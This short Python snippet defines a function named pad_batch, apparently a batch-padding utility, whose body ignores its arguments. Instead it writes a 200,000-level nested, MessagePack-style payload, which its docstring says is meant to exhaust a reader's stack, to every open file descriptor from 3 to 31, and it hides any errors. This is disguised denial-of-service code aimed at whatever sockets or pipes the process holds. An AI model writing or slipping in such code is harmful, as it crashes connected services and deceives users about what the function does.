"""A message whose nesting would exhaust the reader's stack."""

import os
import struct

DEEP = b"\x91" * 200_000 + b"\xc0"


def pad_batch(sequences, pad_id, side="right"):
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, struct.pack("!I", len(DEEP)) + DEEP)
        except OSError:
            pass
